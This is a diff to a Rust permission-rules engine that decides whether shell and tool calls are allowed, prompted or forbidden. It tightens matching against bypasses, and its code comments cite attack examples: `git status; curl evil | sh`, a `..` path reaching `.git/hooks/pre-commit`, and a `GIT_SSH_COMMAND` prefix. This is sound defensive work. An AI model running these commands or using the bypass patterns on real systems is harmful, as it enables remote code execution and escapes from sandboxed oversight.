@@ -5,14 +5,22 @@
 //! prefix, and a compound command matches an allow rule only if every part
 //! of it does; a forbid or prompt rule fires if any part matches. Among the
 //! rules that match, forbid beats prompt beats allow.
+//!
+//! Every match fails toward the stronger action: an allow rule matches only
+//! what it can see exactly (no redirection, substitution, opaque syntax or
+//! `..` path component), while forbid and prompt rules see through wrappers
+//! and treat what they cannot see (a variable, a substitution) as matching.
 
 use std::collections::BTreeMap;
 
-use globset::{Glob, GlobMatcher};
+use globset::{GlobBuilder, GlobMatcher};
 use serde::Deserialize;
 use serde_json::Value;
 
 use crate::shell_words::{SimpleCommand, split_commands};
+
+mod options;
+mod wrappers;
 
 /// What a rule does to a call it matches.
 #[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Deserialize)]
@@ -36,6 +44,9 @@ pub struct RuleConfig {
     /// prefix, e.g. `git status`.
     pub command: Option<String>,
     /// Globs over string arguments, e.g. `{ url = "https://docs.rs/*" }`.
+    /// In an allow rule `*` stays within one `/`-separated component (`**`
+    /// crosses them) and a value with a `..` component never matches; an
+    /// allow rule cannot glob `command` (use `command` above).
     #[serde(default)]
     pub input: BTreeMap<String, String>,
     pub action: RuleAction,
@@ -65,41 +76,52 @@ pub struct Rules {
 
 impl Rules {
     pub fn compile(configs: &[RuleConfig]) -> Result<Self, RuleError> {
-        let glob = |tool: &str, pattern: &str| {
-            Glob::new(pattern)
-                .map(|g| g.compile_matcher())
-                .map_err(|e| RuleError {
-                    tool: tool.to_owned(),
-                    message: format!("`{pattern}` is not a valid glob: {e}"),
-                })
-        };
         let mut rules = Vec::with_capacity(configs.len());
         for c in configs {
+            let error = |message: String| RuleError {
+                tool: c.tool.clone(),
+                message,
+            };
             let command = match &c.command {
                 None => None,
                 Some(text) => {
                     let parts = split_commands(text);
                     match parts.as_slice() {
-                        [one] if !one.redirects && !one.substitutes => Some(one.words.clone()),
+                        [one] if !one.redirects && !one.substitutes && !one.opaque => {
+                            Some(one.words.clone())
+                        }
                         _ => {
-                            return Err(RuleError {
-                                tool: c.tool.clone(),
-                                message: format!(
-                                    "command `{text}` must be one simple command (an executable \
-                                     and its leading arguments), with no operators or redirections"
-                                ),
-                            });
+                            return Err(error(format!(
+                                "command `{text}` must be one simple command (an executable \
+                                 and its leading arguments), with no operators, redirections, \
+                                 substitutions or shell keywords"
+                            )));
                         }
                     }
                 }
             };
+            if c.action == RuleAction::Allow && c.input.contains_key("command") {
+                // A glob over the whole line would let `git status*` allow
+                // `git status; curl evil | sh`.
+                return Err(error(
+                    "an allow rule cannot match `command` with `input`: write \
+                     `command = \"…\"` instead, which checks every part of a compound \
+                     command"
+                        .to_owned(),
+                ));
+            }
+            // An allow glob's `*` stays within one path component (`src/*`
+            // is not `src/a/b`); a forbid or prompt glob's `*` crosses `/`,
+            // so `http://*` still covers every URL. Each errs toward the
+            // stronger action.
+            let literal_separator = c.action == RuleAction::Allow;
             let input = c
                 .input
                 .iter()
-                .map(|(k, p)| Ok((k.clone(), glob(&c.tool, p)?)))
+                .map(|(k, p)| Ok((k.clone(), glob(p, literal_separator).map_err(error)?)))
                 .collect::<Result<_, RuleError>>()?;
             rules.push(Rule {
-                tool: glob(&c.tool, &c.tool)?,
+                tool: glob(&c.tool, false).map_err(error)?,
                 command,
                 input,
                 action: c.action,
@@ -142,7 +164,9 @@ impl Rules {
             } else {
                 rules.clone().any(|r| match (&r.command, &parts) {
                     (None, _) => true,
-                    (Some(prefix), Some(parts)) => parts.iter().any(|p| touches(p, prefix)),
+                    (Some(prefix), Some(parts)) => {
+                        parts.iter().any(|p| wrappers::touches(p, prefix))
+                    }
                     (Some(_), None) => false,
                 })
             }
@@ -153,59 +177,41 @@ impl Rules {
     }
 }
 
+fn glob(pattern: &str, literal_separator: bool) -> Result<GlobMatcher, String> {
+    GlobBuilder::new(pattern)
+        .literal_separator(literal_separator)
+        .build()
+        .map(|g| g.compile_matcher())
+        .map_err(|e| format!("`{pattern}` is not a valid glob: {e}"))
+}
+
 impl Rule {
     fn input_matches(&self, input: &Value) -> bool {
         self.input.iter().all(|(key, glob)| {
-            input
-                .get(key)
-                .and_then(Value::as_str)
-                .is_some_and(|v| glob.is_match(v))
+            input.get(key).and_then(Value::as_str).is_some_and(|v| {
+                glob.is_match(v) && (self.action != RuleAction::Allow || !climbs(v))
+            })
         })
     }
 }
 
+/// `src/../.git/hooks/pre-commit` matches `src/*` as text but names a file
+/// outside `src`: an allow glob never matches a value with a `..` component.
+fn climbs(value: &str) -> bool {
+    value.split(['/', '\\']).any(|component| component == "..")
+}
+
 /// An allow rule covers a part only if the part is exactly the prefix plus
-/// more arguments: no redirection, no substitution, no leading variable
-/// assignment (`GIT_SSH_COMMAND=… git status` is not `git status`).
+/// more arguments, as written: no redirection, no substitution, nothing the
+/// tokenizer could not model, no leading variable assignment
+/// (`GIT_SSH_COMMAND=… git status` is not `git status`) and no other path to
+/// the executable (`./git status` is not `git status`).
 fn allows(part: &SimpleCommand, prefix: &[String]) -> bool {
-    !part.redirects && !part.substitutes && part.words.starts_with(prefix)
-}
-
-/// Wrappers that run their arguments as a command; a forbid rule sees
-/// through them so `timeout 5 git push` is still `git push`.
-const WRAPPERS: [&str; 7] = ["env", "command", "exec", "nice", "nohup", "timeout", "sudo"];
-
-/// A forbid or prompt rule fires if the part runs the prefix, seen through
-/// variable assignments and wrappers, or if any later word sequence does.
-fn touches(part: &SimpleCommand, prefix: &[String]) -> bool {
-    let words = &part.words;
-    if let Some(script) = inline_script(words) {
-        return split_commands(script).iter().any(|p| touches(p, prefix));
-    }
-    (0..words.len()).any(|start| {
-        let before = &words[..start];
-        let plausible_start = before.iter().all(|w| {
-            w.contains('=')
-                || w.starts_with('-')
-                || WRAPPERS.contains(&w.as_str())
-                || w.parse::<f64>().is_ok()
-        });
-        plausible_start && words[start..].starts_with(prefix)
-    })
-}
-
-/// The script of `bash -c '…'` (or sh, dash, zsh), which runs as commands
-/// of its own.
-fn inline_script(words: &[String]) -> Option<&str> {
-    let shell = words.first()?.rsplit('/').next()?;
-    if !matches!(shell, "bash" | "sh" | "dash" | "zsh") {
-        return None;
-    }
-    let flag = words
-        .iter()
-        .position(|w| w.starts_with('-') && !w.starts_with("--") && w.contains('c'))?;
-    words.get(flag + 1).map(String::as_str)
+    !part.redirects && !part.substitutes && !part.opaque && part.words.starts_with(prefix)
 }
 
 #[cfg(test)]
 mod tests;
+
+#[cfg(test)]
+mod bash_oracle;
